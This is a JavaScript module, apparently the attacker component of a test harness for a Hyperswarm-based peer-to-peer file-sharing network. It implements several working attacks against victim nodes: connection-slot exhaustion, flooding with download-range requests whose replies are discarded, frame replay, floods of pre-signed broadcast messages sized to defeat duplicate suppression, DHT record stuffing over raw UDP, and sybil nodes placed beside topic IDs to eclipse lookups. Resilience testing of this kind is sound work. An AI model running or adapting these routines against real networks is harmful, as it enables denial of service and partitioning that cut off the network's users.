'use strict';
// The attacks of attacker.js: `async (options, report)`, which returns when the attack is under way.

const crypto = require('crypto');
const dgram = require('dgram');
const dht = require('@hyperswarm/dht');
const { PeersInput, PeersOutput } = require('@hyperswarm/dht/messages');
const { Message, TYPE } = require('dht-rpc/lib/messages');
const { DIALECTS, dialect } = require('./dialect');
const { createIdentity, SPKI_PREFIX } = require('./identity');
const { honestFrames, Link } = require('./link');
const messages = require('./messages');
const { lookup, openNode } = require('./ports');
const { Stranger } = require('./stranger');

const DIALECT = dialect('0.2.1');
const PROTOCOLS = [...new Set(Object.values(DIALECTS).map(({ protocol }) => protocol))];
const REQUESTS = 32; // of one node that are served at once
const RANGE = 20000000;
const WINDOW = 64; // announces under way
const FLOOD = 70000; // messages; a swarm of ours remembers 65,536
const TICK_MS = 20;

const channelTopics = (channel) => PROTOCOLS.map((protocol) => {
  return { protocol, topic: messages.topicOf(protocol, messages.lookupSwarm(channel)) };
});

/** The transfer topics of a node (DER id), one for each dialect. */
function transferTopics(nodeId) {
  const raw = nodeId.slice(SPKI_PREFIX.length * 2);
  return Object.values(DIALECTS).map(({ protocol, signature }) => {
    return { protocol, topic: messages.topicOf(protocol, messages.transferSwarm(signature === 'spki' ? nodeId : raw)) };
  });
}

/** The ports of a topic, as soon as there are any: a daemon that has just started may not have announced itself yet. */
async function portsOf(node, topic) {
  for (let tries = 0; tries < 50; tries++) {
    const found = await lookup(node, topic);
    if (found.length) return found;
    await new Promise((resolve) => setTimeout(resolve, 100));
  }
  throw new Error('nobody announces the topic');
}

/** `count` links from each address to each port that is announced for each topic. */
async function surround({ bootstrap, address, count }, topics, more) {
  const node = await openNode(bootstrap, address[0]);
  const found = await Promise.all(topics.map(async ({ protocol, topic }) => {
    return (await portsOf(node, topic)).map((to) => ({ to, protocol }));
  }));
  const links = found.flat().flatMap((port) => address.flatMap((from) => {
    return Array.from({ length: count }, () => new Link({ ...port, address: from, ...more }));
  }));
  await Promise.all(links.map((link) => link.settled));
  return links;
}

const held = (links) => links.filter((link) => link.held).length;

const attacks = {
  async claims({ bootstrap, channel: [channel], address: [address], sha1, claim }, report) {
    const stranger = new Stranger({ bootstrap, channel, address }, report);
    for (const each of claim) {
      const [size, count, behaviour, step = '0'] = each.split(':');
      stranger.claim(Number(size), Number(count), behaviour, Number(step));
    }
    await stranger.enter(sha1);
    report('ready');
  },

  async places(options, report) {
    const links = await surround(options, [...options.channel.flatMap(channelTopics), ...transferTopics(options.victim)]);
    report('ready', { asked: links.length, held: held(links) });
  },

  async readers(options, report) {
    const [, whole, ranges] = transferTopics(options.victim);
    const asking = (downloadFile) => ({
      reads: false,
      onReady: (json, { identity }) => {
        for (let i = 0; i < REQUESTS; i++) {
          const request = messages.requestToNode(options.victim, messages.randomId(), downloadFile);
          json.sendMessage(messages.envelope(identity, messages.broadcast(identity, DIALECT, request)));
        }
      },
    });
    const file = { sha1: options.sha1 };
    const links = (await Promise.all([
      surround(options, options.channel.flatMap(channelTopics)),
      surround(options, [whole], asking(messages.downloadFile(file))),
      surround(options, [ranges], asking(messages.downloadRange(file, 0, Math.min(options.size, RANGE)))),
    ])).flat();
    report('ready', { asked: links.length, held: held(links) });
  },

  async requests(options, report) {
    const { victim, sha1, size, length, rate } = options;
    const [, , topic] = transferTopics(victim);
    let received = 0;
    const asking = () => {
      let socket = null;
      let discarding = false;
      return {
        onReady: (json, { identity }) => {
          socket = json._socket;
          discarding = false;
          let at = 0;
          const ask = () => {
            const start = at++ * length % (size - length + 1);
            const request = messages.requestToNode(victim, messages.randomId(), messages.downloadRange({ sha1 }, start, start + length));
            json.sendMessage(messages.envelope(identity, messages.broadcast(identity, DIALECT, request)));
          };
          const timer = setInterval(() => {
            for (let i = 0; i < rate * TICK_MS / 1000; i++) ask();
          }, TICK_MS);
          socket.on('close', () => clearInterval(timer));
        },
        // What comes is not parsed: the flood is to cost the victim, not the flooder.
        onFrame: () => {
          if (discarding) return;
          discarding = true;
          socket.removeAllListeners('data');
          socket.on('data', (data) => { received += data.length; });
        },
      };
    };
    const node = await openNode(options.bootstrap, options.address[0]);
    // Loaders announce themselves there, too, and would pass the requests on.
    const found = (await portsOf(node, topic.topic)).filter(({ port }) => !options.port || port === options.port);
    const links = found.flatMap((to) => options.address.flatMap((address) => {
      return Array.from({ length: options.count }, () => new Link({ to, protocol: topic.protocol, address, ...asking() }));
    }));
    await Promise.all(links.map((link) => link.settled));
    setInterval(() => report('received', { bytes: received }), 1000);
    report('ready', { asked: links.length, held: held(links) });
  },

  async replay({ bootstrap, channel: [channel], address: [address], victim, of, count }, report) {
    const node = await openNode(bootstrap, address);
    const frames = { nodeId: victim };
    const [, { protocol, topic }] = channelTopics(channel);
    await new Promise((resolve) => {
      portsOf(node, topic).then((ports) => ports.forEach((to) => {
        let from = null;
        new Link({
          to, address, protocol,
          onFrame: (frame) => {
            if (frame.type === 'initial') from = frame.nodeId;
            else if (from === victim && frame.body && ['ready', 'keepAlive'].includes(frame.body.type)) frames[frame.body.type] = frame;
            if (frames.ready && frames.keepAlive) resolve();
          },
        });
      }));
    });
    report('recorded');
    const [, , transfer] = transferTopics(of);
    const [to] = await portsOf(node, transfer.topic);
    const links = Array.from({ length: count }, () => new Link({ to, address, protocol: transfer.protocol, frames }));
    await Promise.all(links.map((link) => link.settled));
    report('ready', { asked: links.length, held: held(links) });
  },

  async flood({ bootstrap, channel: [channel], address, victim, rate, message, topics }, report) {
    const sayings = {
      unknown: () => ({ type: 'nonsense' }),
      seeking: () => messages.seeking({ sha1: crypto.randomBytes(20).toString('hex') }),
      answer: () => messages.messageToNode(victim, messages.received(messages.randomId())),
    };
    const names = Array.from({ length: 64 }, () => createIdentity(DIALECT));
    // Signed before the flood begins, and more of them than a swarm remembers, so that they stay new when they are repeated.
    const floods = address.map((from) => {
      const neighbour = createIdentity(DIALECT);
      const frames = Array.from({ length: Math.ceil(FLOOD / address.length) }, (_, i) => {
        const originator = message === 'seeking' ? names[i % names.length] : neighbour;
        const text = JSON.stringify(messages.envelope(neighbour, messages.broadcast(originator, DIALECT, sayings[message]())));
        return Buffer.from(`${Buffer.byteLength(text)}#${text}`);
      });
      return { from, frames, signed: honestFrames(neighbour) };
    });
    const flooded = topics === 'all' ? [...channelTopics(channel), ...transferTopics(victim)] : channelTopics(channel).slice(1);
    const node = await openNode(bootstrap, address[0]);
    const ports = (await Promise.all(flooded.map(async ({ protocol, topic }) => {
      return (await portsOf(node, topic)).map((to) => ({ to, protocol }));
    }))).flat();
    const links = floods.flatMap(({ from, frames, signed }) => ports.map(({ to, protocol }) => {
      let socket = { destroyed: true };
      let at = 0;
      setInterval(() => {
        if (socket.destroyed || socket.writableLength > 1 << 20) return;
        socket.write(Buffer.concat(Array.from({ length: rate * TICK_MS / 1000 }, () => frames[at++ % frames.length])));
      }, TICK_MS);
      return new Link({ to, address: from, protocol, frames: signed, onReady: (json) => { socket = json._socket; } });
    }));
    await Promise.all(links.map((link) => link.settled));
    report('ready', { asked: links.length, held: held(links) });
  },

  async records({ bootstrap: [bootstrap], channel: [channel], address: [address], count, topics }, report) {
    const node = await openNode([bootstrap], address);
    const targets = topics === 'own' ? channelTopics(channel).map(({ topic }) => topic) : null;
    const target = (i) => (targets ? targets[i % targets.length] : crypto.randomBytes(32));
    const [host, port] = bootstrap.split(':');
    const to = { host, port: Number(port) };
    const token = await new Promise((resolve, reject) => {
      node._io.query('peers', crypto.randomBytes(32), PeersInput.encode({ port: 1 }), to, (error, answer) => {
        if (error) reject(error);
        else resolve(answer.roundtripToken);
      });
    });
    const started = Date.now();
    let stored = 0;
    let lost = 0;
    let wake = () => {};
    const socket = dgram.createSocket('udp4');
    await new Promise((resolve) => socket.bind(0, address, resolve));
    socket.on('message', () => {
      stored++;
      wake();
    });
    for (let sent = 1; sent <= count; sent++) {
      const value = PeersInput.encode({ port: 1024 + (sent >> 1) % 64000 });
      const announce = { version: 1, type: TYPE.UPDATE, rid: sent & 0xffff, id: null, roundtripToken: token, target: target(sent), command: 'peers', value };
      socket.send(Message.encode(announce), to.port, to.host);
      if (sent - stored - lost < WINDOW) continue;
      const answered = await new Promise((resolve) => {
        setTimeout(() => resolve(false), 20);
        wake = () => resolve(true);
      });
      if (!answered) lost = sent - stored;
    }
    report('ready', { stored, seconds: (Date.now() - started) / 1000 });
  },

  async beside({ bootstrap, channel: [channel], address: [address], count }, report) {
    const nodes = [];
    for (const { topic } of channelTopics(channel)) {
      for (let i = 0; i < count; i++) {
        const id = Buffer.from(topic);
        id[31] ^= i + 1;
        const node = dht({ bootstrap, id, ephemeral: false });
        node.on('warning', () => {});
        // Answers everything, and keeps nothing.
        const nothing = (query, callback) => callback(null, null);
        node.command('peers', { inputEncoding: PeersInput, outputEncoding: PeersOutput, update: nothing, query: nothing });
        await new Promise((resolve) => node.listen(0, address, resolve));
        nodes.push(new Promise((resolve) => node.ready(resolve)));
      }
    }
    await Promise.all(nodes);
    report('ready', { nodes: nodes.length });
  },
};

module.exports = { attacks };
